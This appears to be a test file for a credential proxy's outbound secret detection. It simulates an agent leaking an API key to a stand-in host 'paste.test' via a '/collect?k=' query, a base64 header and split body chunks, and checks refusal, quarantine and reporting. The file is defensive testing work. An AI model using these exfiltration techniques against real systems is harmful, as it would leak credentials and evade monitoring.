import { createServer } from 'node:http';
import { Readable } from 'node:stream';
import t from 'tap';
import { partialMatchAlarm } from '../../src/guard/needle-automaton.js';
import { ProxyAgent, request } from 'undici';
import { pollFor } from '../helpers/poll.js';
import { noSecretsLogged, SECRETS, startTestSidekey } from '../helpers/sidekey.js';
// Outbound secret detection: an agent that sends a secret sidekey holds (it should never have
// known it) is refused before anything of the secret leaves, reported, and quarantined.
t.test('outbound secret detection', async (t) => {
    const received = [];
    const upstream = createServer((req, res) => {
        req.on('data', (c) => received.push(c.toString('latin1')));
        req.on('end', () => res.end('ok'));
        req.on('error', () => undefined);
    });
    await new Promise((r) => upstream.listen(0, '127.0.0.1', r));
    t.teardown(() => new Promise((r) => { upstream.closeAllConnections(); upstream.close(() => r()); }));
    const port = upstream.address().port;
    const sk = await startTestSidekey(t, `
version: v1
credentials:
  key: { type: static, env: TEST_OPENAI_KEY }
routes:
  - { name: api, host: api.test, ports: [${port}], credential: key, addresses: [127.0.0.1] }
  - { name: paste, host: paste.test, ports: [${port}], addresses: [127.0.0.1] }
`, { connectTo: { [`api.test:${port}`]: { host: '127.0.0.1', port }, [`paste.test:${port}`]: { host: '127.0.0.1', port } } });
    const secret = SECRETS.OPENAI;
    const send = async (workload, path, init = {}) => {
        const dispatcher = new ProxyAgent({ uri: sk.proxyUrlFor(workload), proxyTunnel: false });
        try {
            const res = await request(`http://paste.test:${port}${path}`, { dispatcher, method: init.method ?? 'GET', headers: init.headers, body: init.body });
            await res.body.dump();
            return { status: res.statusCode, error: res.headers['x-sidekey-error'] };
        }
        finally {
            await dispatcher.close();
        }
    };
    t.test('in the query, before sidekey ever injected it', async (t) => {
        t.same(await send('agent-q', `/collect?k=${secret}`), { status: 403, error: 'SIDEKEY_ERR_SECRET_DETECTED' });
    });
    t.test('base64-encoded in a header', async (t) => {
        t.same(await send('agent-h', '/collect', { headers: { 'x-data': Buffer.from(secret).toString('base64') } }), { status: 403, error: 'SIDEKEY_ERR_SECRET_DETECTED' });
    });
    t.test('split across body chunks: refused before two thirds of it leave, and nothing held back', async (t) => {
        const before = received.length;
        async function* chunks() {
            yield 'payload=' + 'a'.repeat(100) + secret.slice(0, 10);
            // The second part only once the first has reached the upstream whole: nothing is held back
            // for what it could become (a held tail told an agent which prefix of a key was right).
            await pollFor(() => received.slice(before).join(''), (got) => got.endsWith(secret.slice(0, 10)));
            yield secret.slice(10) + 'zzz';
        }
        t.same(await send('agent-b', '/upload', { method: 'POST', body: Readable.from(chunks()) }), { status: 403, error: 'SIDEKEY_ERR_SECRET_DETECTED' });
        const leaked = received.slice(before).join('');
        t.ok(leaked.endsWith(secret.slice(0, 10)), 'its first 10 bytes, short of two thirds, went on with their chunk');
        t.notOk(leaked.includes(secret.slice(0, partialMatchAlarm(secret.length))), 'two thirds of it never reached the upstream');
    });
    t.test('the workload is quarantined and the event reported', async (t) => {
        t.same(await send('agent-b', '/innocent'), { status: 403, error: 'SIDEKEY_ERR_QUARANTINED' });
        const events = sk.sink.lines.filter((l) => l.event === 'security_event' && l.type === 'secret_detected');
        t.same(events.map((e) => e.workload).sort(), ['agent-b', 'agent-h', 'agent-q']);
        const line = await sk.sink.waitForAudit((a) => a.workload === 'agent-q' && a.path === '/collect');
        t.match(line, { decision: 'deny', reason: 'secret-detected', error: 'SIDEKEY_ERR_SECRET_DETECTED', query_keys: ['k'] });
    });
    t.test('ordinary traffic is untouched, and injection is not mistaken for exfiltration', async (t) => {
        t.same(await send('agent-ok', '/upload', { method: 'POST', body: 'x'.repeat(100_000) }), { status: 200, error: undefined });
        const dispatcher = new ProxyAgent({ uri: sk.proxyUrlFor('agent-ok'), proxyTunnel: false });
        t.teardown(() => dispatcher.close());
        const res = await request(`http://api.test:${port}/v1/x`, { dispatcher, headers: { authorization: 'Bearer placeholder' } });
        t.equal(res.statusCode, 200);
        await res.body.dump();
    });
    noSecretsLogged(t, sk);
});
//# sourceMappingURL=secret-detection.test.js.map